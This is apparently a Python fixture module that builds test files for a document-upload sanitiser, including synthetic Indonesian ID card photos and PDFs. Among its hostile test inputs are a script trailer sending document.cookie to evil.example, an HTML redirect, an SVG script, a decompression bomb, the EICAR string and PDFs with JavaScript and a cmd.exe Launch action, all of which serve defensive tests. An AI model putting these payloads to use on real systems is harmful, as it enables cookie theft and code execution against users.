"""Test files for the document checks, all generated here: nothing is downloaded.

Every function returns the bytes of one file. The costly ones are cached (bytes are
immutable, so sharing them between tests is safe). The pictures imitate what a claimant's
phone sends: a light card or sheet of paper with dark printed text, a little sensor noise,
EXIF orientation and a GPS position. Names are chosen by the tests, so that the same bytes
can be sent as "ktp.jpg", "blob" or a lie.

The antivirus tests use ``EICAR`` and ``jpeg_with_eicar()``.
"""

import functools
import io
import struct
import zipfile
import zlib

import pikepdf
import pillow_heif
from PIL import ExifTags, Image, ImageChops, ImageCms, ImageDraw, ImageFilter, ImageFont

pillow_heif.register_heif_opener()

# The 68-byte standard antivirus test file. Built from two halves so that this source
# file itself does not look like the test virus to a scanner on a developer's laptop.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
assert len(EICAR) == 68

# Appended after a JPEG's end-of-image marker; must not survive into the clean copy.
TRAILER = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"

# Where the fake GPS tag puts the claimant (Jakarta); the clean copy must not say so.
GPS_LATITUDE = (6.0, 12.0, 30.5)
GPS_LONGITUDE = (106.0, 49.0, 10.0)

PAPER = (238, 236, 230)
INK = (28, 30, 38)

_LINES = [
    "PROVINSI DKI JAKARTA",
    "NIK        : 3174 0512 0689 0003",
    "Nama       : BUDI SANTOSO",
    "Tempat/Tgl : JAKARTA, 12-06-1989",
    "Alamat     : JL. MERDEKA NO. 17 RT 004/RW 009",
    "Kel/Desa   : KEBON SIRIH",
    "Pekerjaan  : KARYAWAN SWASTA",
    "Berlaku    : SEUMUR HIDUP",
]


# --- pictures ------------------------------------------------------------------------


def document_image(
    width: int = 1600,
    height: int = 1000,
    *,
    paper: tuple[int, int, int] = PAPER,
    ink: tuple[int, int, int] = INK,
    background: tuple[int, int, int] | None = (92, 84, 76),
    noise: float = 6.0,
    text_lines: int = len(_LINES),
) -> Image.Image:
    """An upright photo of a printed card: paper on a table, text lines, sensor noise.

    ``background=None`` fills the frame with paper (a sheet photographed up close).
    ``text_lines`` below the default gives a sparser page.
    """
    image = Image.new("RGB", (width, height), background or paper)
    draw = ImageDraw.Draw(image)
    margin = 0 if background is None else width // 20
    draw.rectangle((margin, margin, width - margin, height - margin), fill=paper)
    size = max(10, height // 24)
    font = ImageFont.load_default(size=size)
    bold = ImageFont.load_default(size=int(size * 1.3))
    x = margin + width // 25
    y = margin + height // 20
    draw.text((x, y), "KARTU TANDA PENDUDUK", font=bold, fill=ink)
    y += int(size * 2.4)
    for line in _LINES[:text_lines]:
        draw.text((x, y), line, font=font, fill=ink)
        y += int(size * 1.7)
    # A photo box and a rule, as on an e-KTP.
    box = (width - margin - width // 4, margin + height // 6, width - margin - width // 20, margin + height // 2)
    draw.rectangle(box, outline=ink, width=max(1, size // 8))
    draw.line((x, height - margin - height // 10, width // 2, height - margin - height // 10), fill=ink, width=2)
    if noise:
        grain = Image.effect_noise((width, height), noise)
        image = Image.merge("RGB", [ImageChops.add(band, grain, 1.0, -128) for band in image.split()])
    return image


def _jpeg(image: Image.Image, *, quality: int = 90, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=quality, **params)
    return buffer.getvalue()


def _save(image: Image.Image, format: str, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format, **params)
    return buffer.getvalue()


def _phone_exif(orientation: int) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Xiaomi"
    exif[ExifTags.Base.Model] = "Redmi 9A"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "S"
    gps[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = GPS_LONGITUDE
    return exif


@functools.cache
def good_jpeg() -> bytes:
    """A 1600×1000 card photographed with the phone held upright.

    Stored sideways (1000×1600) with EXIF orientation 6, as phones do, plus a GPS
    position: the clean copy must come out 1600×1000 and without the position.
    """
    upright = document_image(1600, 1000)
    stored = upright.transpose(Image.Transpose.ROTATE_90)
    return _jpeg(stored, exif=_phone_exif(6), comment=b"Redmi 9A")


@functools.cache
def jpeg_with_every_metadata() -> bytes:
    """Upright (orientation 1) and at most the cap, so nothing forces a new image: yet
    it carries GPS, camera EXIF, an ICC profile, XMP (with the position again) and a
    comment, none of which may reach the clean copy."""
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="6,12.5S"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    return _jpeg(document_image(1600, 1000), exif=_phone_exif(1), icc_profile=icc, xmp=xmp, comment=b"Redmi 9A")


@functools.cache
def plain_jpeg() -> bytes:
    """A 1600×1000 card photo without EXIF."""
    return _jpeg(document_image(1600, 1000))


@functools.cache
def good_png() -> bytes:
    """A screenshot-like scan with an alpha channel (transparent margins)."""
    image = document_image(1400, 900, background=None, noise=2).convert("RGBA")
    alpha = Image.new("L", image.size, 255)
    ImageDraw.Draw(alpha).rectangle((0, 0, 1399, 40), fill=0)
    image.putalpha(alpha)
    return _save(image, "PNG")


@functools.cache
def good_webp() -> bytes:
    return _save(document_image(1600, 1000), "WEBP", quality=85)


@functools.cache
def good_heic() -> bytes:
    """A HEIC as an iPhone sends it (written by pillow-heif: libheif + x265)."""
    return _save(document_image(1600, 1000), "HEIF", quality=80)


@functools.cache
def png_in_mode(mode: str) -> bytes:
    """The card as a PNG in an unusual mode: "P", "LA", "I;16", "1", "L"…"""
    image = document_image(1200, 800, background=None, noise=0)
    if mode == "I;16":
        # 16-bit grey from a scanner: the full 0..65535 range.
        converted = image.convert("L").point(lambda v: v * 257, "I").convert("I;16")
    elif mode == "LA":
        converted = image.convert("LA")
    else:
        converted = image.convert(mode)
    return _save(converted, "PNG")


@functools.cache
def cmyk_jpeg() -> bytes:
    """A CMYK JPEG, as some scanner software and print shops write them."""
    return _jpeg(document_image(1600, 1000).convert("CMYK"))


@functools.cache
def phone_jpeg_12mp() -> bytes:
    """A 4000×3000 (12 MP) phone photo of a card, about 4 MB: the benchmark's input.

    Stored landscape with orientation 6 like a phone held upright, strong sensor noise
    and fine text so that JPEG cannot compress it away.
    """
    upright = document_image(3000, 4000, noise=6)
    stored = upright.transpose(Image.Transpose.ROTATE_90)
    return _jpeg(stored, quality=92, exif=_phone_exif(6))


@functools.cache
def jpeg_with_trailer() -> bytes:
    """A valid JPEG followed by a script after the end-of-image marker."""
    return plain_jpeg() + TRAILER


@functools.cache
def jpeg_with_eicar() -> bytes:
    """A valid JPEG with the EICAR test file appended (for the antivirus tests)."""
    return plain_jpeg() + EICAR


@functools.cache
def truncated_jpeg() -> bytes:
    data = plain_jpeg()
    return data[: len(data) // 2]


def one_pixel_png() -> bytes:
    return _save(Image.new("RGB", (1, 1), PAPER), "PNG")


@functools.cache
def black_jpeg() -> bytes:
    """The lens covered: black with a little noise."""
    return _jpeg(document_image(1600, 1000, paper=(3, 3, 3), ink=(0, 0, 0), background=(0, 0, 0), noise=3))


@functools.cache
def dark_jpeg() -> bytes:
    """The card in a dark room: the same picture at a tenth of its brightness."""
    return _jpeg(document_image(1600, 1000).point(lambda v: v // 10))


@functools.cache
def white_page_jpeg() -> bytes:
    """A well-lit, sharp photo of a white A4 letter filling the frame (mean ≈ 230)."""
    image = document_image(1240, 1754, paper=(246, 246, 244), ink=(20, 20, 20), background=None, noise=4)
    return _jpeg(image)


@functools.cache
def sparse_white_page_jpeg() -> bytes:
    """A white page with only three lines of text on it (mean ≈ 240): still a document."""
    image = document_image(1240, 1754, paper=(248, 248, 247), ink=(25, 25, 25), background=None, noise=3, text_lines=2)
    return _jpeg(image)


@functools.cache
def overexposed_jpeg() -> bytes:
    """The flash bleached the card: paper clipped to white, text faded to a ghost."""
    image = document_image(1600, 1000, background=None).point(lambda v: min(255, 222 + v * 40 // 255))
    return _jpeg(image)


@functools.cache
def blurred_jpeg(radius: float = 5.0) -> bytes:
    """The card at 1200 px wide, out of focus: GaussianBlur of ``radius`` px."""
    image = document_image(1200, 760, noise=0).filter(ImageFilter.GaussianBlur(radius))
    grain = Image.effect_noise(image.size, 4)
    image = Image.merge("RGB", [ImageChops.add(band, grain, 1.0, -128) for band in image.split()])
    return _jpeg(image)


# --- hand-written PNGs too large to build as Pillow images ----------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _blank_bilevel_png(width: int, height: int) -> bytes:
    """A 1-bit white PNG of any size, written row by row: tens of KB for 400 MP."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


@functools.cache
def png_20000x20000() -> bytes:
    """400 MP in about 50 KB: a decompression bomb."""
    return _blank_bilevel_png(20000, 20000)


@functools.cache
def png_10000x10000() -> bytes:
    """100 MP: twice the 50 MP limit, yet below Pillow's own error threshold."""
    return _blank_bilevel_png(10000, 10000)


# --- files that are not documents ----------------------------------------------------


def html_page() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><head><meta charset='utf-8'><title>Surat</title></head>\n"
        b"<body><h1>Surat Keterangan</h1><script>document.location='https://evil.example/'</script>"
        b"</body></html>\n"
    )


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400">\n'
        b'<rect width="600" height="400" fill="white"/>\n'
        b"<script>alert(document.domain)</script>\n</svg>\n"
    )


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ktp.jpg", plain_jpeg())
        archive.writestr("readme.txt", "buka saya")
    return buffer.getvalue()


def elf_executable() -> bytes:
    """The 64-byte header of an x86-64 Linux executable, then padding."""
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return header + bytes(512)


def pe_executable() -> bytes:
    """An MS-DOS stub pointing at a PE header (a Windows .exe), then padding."""
    dos = bytearray(128)
    dos[0:2] = b"MZ"
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<H", 0x10B) + bytes(0xE0 - 2)
    return bytes(dos) + b"PE\x00\x00" + coff + optional + bytes(512)


# --- PDFs ----------------------------------------------------------------------------


def _pdf(pages: int = 1, text: str = "SURAT KETERANGAN KERJA") -> pikepdf.Pdf:
    """An A4 PDF whose pages share one font and one text content stream."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    )
    content = pdf.make_stream(f"BT /F1 18 Tf 72 760 Td ({text}) Tj 0 -28 Td (PT MAJU JAYA) Tj ET".encode())
    resources = pdf.make_indirect(pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)))
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = resources
        page.obj.Contents = content
    return pdf


def _pdf_bytes(pdf: pikepdf.Pdf, **save) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **save)
    return buffer.getvalue()


@functools.cache
def good_pdf() -> bytes:
    return _pdf_bytes(_pdf())


@functools.cache
def pdf_pages(count: int) -> bytes:
    return _pdf_bytes(_pdf(count))


@functools.cache
def pdf_5000_pages() -> bytes:
    """5,000 pages that all point at one content stream: small on disk, costly to walk."""
    return _pdf_bytes(_pdf(5000), object_stream_mode=pikepdf.ObjectStreamMode.generate)


@functools.cache
def pdf_1mb() -> bytes:
    """A scanned letter: one page holding a ~1 MB JPEG."""
    pdf = _pdf()
    scan = document_image(2480, 3508, background=None, noise=6)
    data = _jpeg(scan, quality=70)
    image = pdf.make_stream(
        data,
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Image,
        Width=scan.width,
        Height=scan.height,
        ColorSpace=pikepdf.Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=pikepdf.Name.DCTDecode,
    )
    page = pdf.pages[0]
    page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
    page.obj.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return _pdf_bytes(pdf)


@functools.cache
def encrypted_pdf() -> bytes:
    """Opens only with the password "rahasia"."""
    return _pdf_bytes(_pdf(), encryption=pikepdf.Encryption(owner="pemilik", user="rahasia"))


@functools.cache
def encrypted_pdf_empty_password() -> bytes:
    """Encrypted, but the user password is empty: opens without asking, still encrypted."""
    return _pdf_bytes(_pdf(), encryption=pikepdf.Encryption(owner="pemilik", user=""))


def broken_pdf() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


@functools.cache
def pdf_with_javascript_in_object_stream() -> bytes:
    """/OpenAction → a JavaScript action, packed in a compressed object stream.

    The words /OpenAction and /JavaScript appear nowhere in the raw bytes: only a PDF
    parser finds them.
    """
    pdf = _pdf()
    action = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('Halo');"))
    )
    pdf.Root.OpenAction = action
    return _pdf_bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


@functools.cache
def pdf_with_active_content(kind: str) -> bytes:
    """Other places active content hides: "page_aa", "launch_link", "javascript_names"."""
    pdf = _pdf()
    page = pdf.pages[0].obj
    if kind == "page_aa":
        js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.print();"))
        page.AA = pikepdf.Dictionary(O=js)
    elif kind == "launch_link":
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 72, 200, 100], A=launch)
        page.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    elif kind == "javascript_names":
        js = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1);")))
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("halo"), js]))
        )
    else:
        raise ValueError(kind)
    return _pdf_bytes(pdf)


@functools.cache
def pdf_with_harmless_navigation() -> bytes:
    """What LibreOffice and Word write: /OpenAction as a destination, and a web link."""
    pdf = _pdf()
    page = pdf.pages[0].obj
    pdf.Root.OpenAction = pikepdf.Array([page, pikepdf.Name.XYZ, None, None, 0])
    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.bpjsketenagakerjaan.go.id/"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 72, 200, 100], A=uri)
    page.Annots = pikepdf.Array([pdf.make_indirect(link)])
    return _pdf_bytes(pdf)


@functools.cache
def pdf_with_embedded_file() -> bytes:
    """A PDF carrying an attachment in its /EmbeddedFiles name tree."""
    pdf = _pdf()
    pdf.attachments["slip-gaji.exe"] = pikepdf.AttachedFileSpec(
        pdf, pe_executable(), mime_type="application/octet-stream"
    )
    return _pdf_bytes(pdf)


@functools.cache
def pdf_with_file_attachment_annotation() -> bytes:
    """A paper-clip annotation on the page holding a file, no name tree."""
    pdf = _pdf()
    spec = pikepdf.AttachedFileSpec(pdf, b"rahasia", mime_type="text/plain").obj
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.FileAttachment,
        Rect=[72, 72, 92, 92],
        FS=spec,
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annot)])
    return _pdf_bytes(pdf)
